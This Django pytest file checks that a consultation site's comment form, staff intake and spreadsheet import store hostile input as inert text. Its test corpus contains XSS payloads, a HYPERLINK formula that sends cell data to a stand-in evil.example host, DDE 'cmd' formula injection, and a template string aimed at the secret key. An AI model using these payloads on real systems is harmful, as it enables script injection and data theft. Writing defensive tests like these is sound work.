"""A corpus of hostile input goes through the comment form, staff intake and import: no server
error, what was sent stored as sent except the documented removals, nothing executable in any
rendered page (checked on the HTML), clear translated errors."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from consultation import services
from consultation.intake import importer
from consultation.models import Comment
from tests.hostile import expected, expected_line, runnable_parts

from .comment_helpers import RIGHT, draft, form_token, form_url, post_comment

pytestmark = pytest.mark.django_db

MARK = "Zq§"  # every payload carries a marker so the test can find what survived
CORPUS = {
    "script": f"<script>alert('{MARK}1')</script>Plain words {MARK}1",
    "img_onerror": f"<img src=x onerror=alert('{MARK}2')>Words {MARK}2",
    "svg_onload": f'"><svg onload=alert("{MARK}3")>Words {MARK}3',
    "javascript_link": f'<a href="javascript:alert(1)">click {MARK}4</a>',
    "style_tag": f"<style>body{{display:none}}</style>Words {MARK}5",
    "iframe": f'<iframe src="https://evil.example"></iframe>Words {MARK}6',
    "bidi_override": f"Pay \u202eexe.{MARK}7\u202c now \u2066isolate\u2069",
    "zero_width": f"Ze\u200bro\u200c wi\u200ddth\ufeff {MARK}8\u2060",
    "null_chars": f"Null\x00 char\x00s {MARK}9\x07",
    "csv_formula": f'=HYPERLINK("http://evil.example/?x="&A1,"{MARK}10")',
    "csv_formula_plus": f"+cmd|' /C calc'!A0 {MARK}11",
    "template_syntax": f"{{{{ settings.SECRET_KEY }}}} {{% debug %}} {MARK}12",
    "entities": f"&lt;script&gt;alert(1)&lt;/script&gt; {MARK}13",
}
# Removed by the plain-text rule; zero-width joiners and marks are a resident's characters.
REMOVED = ["\u202e", "\u202c", "\u2066", "\u2069", "\x00", "\x07"]


def assert_inert(html: str) -> None:
    assert runnable_parts(html, MARK) == []
    for char in REMOVED:
        assert char not in html
    assert "<script>alert" not in html  # the escaped text "&lt;script&gt;" is fine


@pytest.mark.parametrize("name", list(CORPUS))
def test_hostile_comment_is_stored_as_inert_plain_text(client, demo, moderator_user, name):
    page = draft(demo)
    response = post_comment(client, form_url(page), text=CORPUS[name])
    html = response.content.decode()
    assert response.status_code == 302, html[html.find("error-summary") :][:800]
    comment = Comment.objects.get()
    assert comment.text == expected(CORPUS[name])
    services.comment_approve(comment=comment, user=moderator_user)
    pages = [
        response["Location"],
        "/en/customer-bill-of-rights/draft-2/",
        f"/en/comments/{page.pk}/{RIGHT}/",
    ]
    for url in pages:
        rendered = client.get(url)
        assert rendered.status_code == 200
        assert_inert(rendered.content.decode())
    client.force_login(moderator_user)
    for url in (f"/admin/comments/{comment.pk}/", "/admin/comments/?status="):
        rendered = client.get(url)
        assert rendered.status_code == 200
        assert_inert(rendered.content.decode())


def test_removed_characters_are_flagged_to_moderators_and_markup_is_not(client, demo):
    url = form_url(draft(demo))
    post_comment(client, url, text=CORPUS["bidi_override"])
    post_comment(client, url, text=CORPUS["script"])
    flags = dict(Comment.objects.values_list("text", "text_cleaned"))
    assert flags == {expected(CORPUS["bidi_override"]): True, CORPUS["script"]: False}


def test_markup_only_comment_is_stored_as_typed_and_shown_as_text(client, demo):
    response = post_comment(client, form_url(draft(demo)), text="<script>alert(1)</script>")
    assert response.status_code == 302
    assert Comment.objects.get().text == "<script>alert(1)</script>"
    status = client.get(response["Location"]).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in status


def test_a_comment_of_only_removed_characters_is_refused_with_a_clear_error(client, demo):
    response = post_comment(client, form_url(draft(demo)), text="\u202e\x00 \u2066")
    assert response.status_code == 400
    assert "Please write your comment." in response.content.decode()
    assert Comment.objects.count() == 0


def test_100_kb_body_gets_a_translated_length_error(client, demo):
    body = "가" * 100_000
    url = form_url(draft(demo, "ko"), "ko")
    response = post_comment(client, url, text=body)
    assert response.status_code == 400
    html = response.content.decode()
    assert 'id="id_text_error"' in html
    assert "Please shorten" not in html
    assert "5000" in html
    assert_inert(html)
    assert Comment.objects.count() == 0


def test_invalid_utf8_in_the_form_body_does_not_break_anything(client, demo):
    url = form_url(draft(demo))
    token = form_token(client, url)
    body = b"text=Hello+%FF%FE+world+\xff\xfe&stance=agree&language=en&form_token=" + token.encode()
    response = client.post(url, body, content_type="application/x-www-form-urlencoded")
    assert response.status_code in (302, 400)
    if response.status_code == 302:
        assert "Hello" in Comment.objects.get().text


def test_hostile_staff_intake_is_stored_as_sent_and_inert(client, demo, moderator_user):
    client.force_login(moderator_user)
    page = draft(demo)
    for name, payload in CORPUS.items():
        response = client.post(
            "/admin/comment-intake/",
            {
                "channel": "mail",
                "received_on": "2025-01-10",
                "taken_by": f"<b onmouseover=alert(1)>Staff</b> {MARK}",
                "target": f"{page.pk}:{RIGHT}",
                "text_form": "verbatim",
                "language": "en",
                "stance": "none",
                "text": payload,
                "source_detail": CORPUS["bidi_override"],
            },
        )
        assert response.status_code == 302, name
    long = client.post(
        "/admin/comment-intake/",
        {
            "channel": "mail",
            "received_on": "2025-01-10",
            "taken_by": "Staff",
            "target": f"{page.pk}:",
            "text_form": "verbatim",
            "language": "en",
            "stance": "none",
            "text": "x" * 100_000,
        },
    )
    assert long.status_code == 400
    stored = sorted(Comment.objects.values_list("text", flat=True))
    assert stored == sorted(expected(payload) for payload in CORPUS.values())
    for comment in Comment.objects.all():
        assert comment.provenance.source_detail == expected_line(CORPUS["bidi_override"])
        assert comment.provenance.taken_by == f"<b onmouseover=alert(1)>Staff</b> {MARK}"
        assert_inert(client.get(f"/admin/comments/{comment.pk}/").content.decode())


def _hostile_rows():
    rows = []
    for payload in CORPUS.values():
        rows.append(
            {
                "channel": "meeting",
                "received_on": "2025-01-10",
                "right": "1",
                "language": "en",
                "stance": "none",
                "text": payload,
                "taken_by": "=cmd|' /C calc'!A0",
                "interpreter_used": "no",
                "text_form": "paraphrase",
            }
        )
    return rows


def test_hostile_csv_import_is_stored_as_sent(client, demo, moderator_user):
    client.force_login(moderator_user)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=importer.COLUMNS)
    writer.writeheader()
    writer.writerows(_hostile_rows())
    upload = SimpleUploadedFile("hostile.csv", out.getvalue().encode("utf-8"))
    response = client.post(
        "/admin/comment-intake/import/", {"draft": draft(demo).pk, "file": upload}
    )
    assert response.status_code == 302, response.content.decode()[-3000:]
    preview = client.get(response["Location"])
    assert_inert(preview.content.decode())
    batch_id = response["Location"].rstrip("/").split("/")[-1]
    client.post(f"/admin/comment-intake/import/{batch_id}/confirm/")
    stored = sorted(Comment.objects.values_list("text", flat=True))
    assert stored == sorted(expected(payload) for payload in CORPUS.values())


def test_hostile_xlsx_import_with_formulas_and_null_bytes(client, demo, moderator_user):
    client.force_login(moderator_user)
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(importer.COLUMNS)
    for row in _hostile_rows():
        values = [row.get(c, "") for c in importer.COLUMNS]
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) for v in values])
    out = io.BytesIO()
    workbook.save(out)
    upload = SimpleUploadedFile("hostile.xlsx", out.getvalue())
    response = client.post(
        "/admin/comment-intake/import/", {"draft": draft(demo).pk, "file": upload}
    )
    assert response.status_code == 302
    assert_inert(client.get(response["Location"]).content.decode())
    client.post(response["Location"] + "confirm/")
    stored = sorted(Comment.objects.values_list("text", flat=True))
    written = [ILLEGAL_CHARACTERS_RE.sub("", p) for p in CORPUS.values()]
    assert stored == sorted(expected(payload) for payload in written)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("latin1.csv", "channel,text\nphone,caf\xe9\n".encode("latin-1"), "not in UTF-8"),
        ("broken.xlsx", b"PK\x03\x04 not really a workbook", "could not be read as an XLSX"),
        ("notes.txt", b"hello", "Upload a .csv or .xlsx file"),
        ("nul.csv", b"channel,received_on\x00\nphone", "columns are missing"),
        (
            "big-cell.csv",
            (
                "channel,received_on,language,text,taken_by,text_form\n"
                "phone,2025-01-01,en," + "y" * 100_000 + ",Staff,verbatim\n"
            ).encode(),
            "Please shorten",
        ),
    ],
)
def test_bad_files_import_nothing_and_say_why(client, demo, moderator_user, name, content, message):
    client.force_login(moderator_user)
    response = client.post(
        "/admin/comment-intake/import/",
        {"draft": draft(demo).pk, "file": SimpleUploadedFile(name, content)},
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert message in html
    assert_inert(html)
    assert Comment.objects.count() == 0
